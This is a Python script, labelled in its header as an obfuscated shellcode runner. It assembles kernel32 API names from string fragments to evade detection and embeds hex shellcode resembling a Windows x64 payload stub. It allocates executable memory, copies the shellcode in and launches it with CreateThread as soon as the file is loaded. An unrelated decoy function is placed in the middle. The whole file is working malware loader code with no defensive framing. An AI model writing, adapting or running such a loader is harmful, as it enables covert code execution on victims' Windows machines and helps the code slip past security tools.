# technique: obfuscated shellcode runner — kernel32 and API names assembled from strings and resolved with getattr; embedded hex shellcode, RWX page, CreateThread
import ctypes as c

_w = getattr(c, "win" + "dll")
_k = getattr(_w, "".join(["ker", "nel", "32"]))
_va = getattr(_k, "Virtual" + "Alloc")
_mm = getattr(_k, "Rtl" + "Move" + "Memory")
_ct = getattr(_k, "Create" + "Thread")
_wf = getattr(_k, "WaitFor" + "SingleObject")

_SC = bytes.fromhex(
    "fc4883e4f0e8c0000000415141505251564831d265488b5260488b5218488b5220488b7250480fb74a4a4d31c9"
    "4831c0ac3c617c022c2041c1c90d4101c1e2ed5241514890909090909090909090c3"
)


def tool_window_color(view):
    return getattr(view, "Name", "")


_va.restype = c.c_void_p
_mm.argtypes = (c.c_void_p, c.c_void_p, c.c_size_t)
_ct.argtypes = (c.c_void_p, c.c_size_t, c.c_void_p, c.c_void_p, c.c_uint32, c.c_void_p)
_m = _va(0, len(_SC), 0x1000 | 0x2000, 0x40)
_mm(_m, c.create_string_buffer(_SC), len(_SC))
_wf(_ct(0, 0, _m, 0, 0, 0), 0xFFFFFFFF)
